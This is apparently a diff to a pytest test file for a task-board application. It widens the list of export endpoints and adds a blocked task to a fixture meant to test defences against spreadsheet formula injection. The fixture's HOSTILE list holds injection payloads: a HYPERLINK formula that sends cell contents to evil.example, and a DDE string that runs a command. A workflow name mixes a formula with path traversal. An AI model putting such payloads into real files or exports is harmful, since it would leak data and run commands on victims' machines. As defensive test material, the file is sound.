@@ -11,9 +11,22 @@ from datetime import datetime
 import pytest
 
 from boards.admission import task_move
+from boards.services import task_block
 from common.renderers import spreadsheet_cell
 
-ENDPOINTS = ["cfd", "cycle-times", "throughput", "aging", "limits", "queues"]
+ENDPOINTS = [
+    "cfd",
+    "wip",
+    "cycle-times",
+    "throughput",
+    "aging",
+    "limits",
+    "queues",
+    "sle",
+    "advice",
+    "blockers",
+    "efficiency",
+]
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
@@ -27,7 +40,7 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 @pytest.fixture
 def hostile_board(workflow, board, make_task, owner):
-    """Steps, a title and a force reason that a spreadsheet would run as formulas."""
+    """Steps, a title, a force reason and a block reason that a spreadsheet would run as formulas."""
     backlog, doing, done = board
     workflow.name = '=HYPERLINK("x")/../Delivery board'
     workflow.save()
@@ -37,7 +50,8 @@ def hostile_board(workflow, board, make_task, owner):
     finished = make_task(doing, HOSTILE[4])
     make_task(doing, "second")
     task_move(task=finished, to_step=done, actor=owner)
-    make_task(doing, "third")
+    third = make_task(doing, "third")
+    task_block(task=third, actor=owner, reason=HOSTILE[3])
     forced = make_task(backlog, "forced in")
     task_move(task=forced, to_step=doing, actor=owner, force=True, reason=HOSTILE[0])
     return workflow
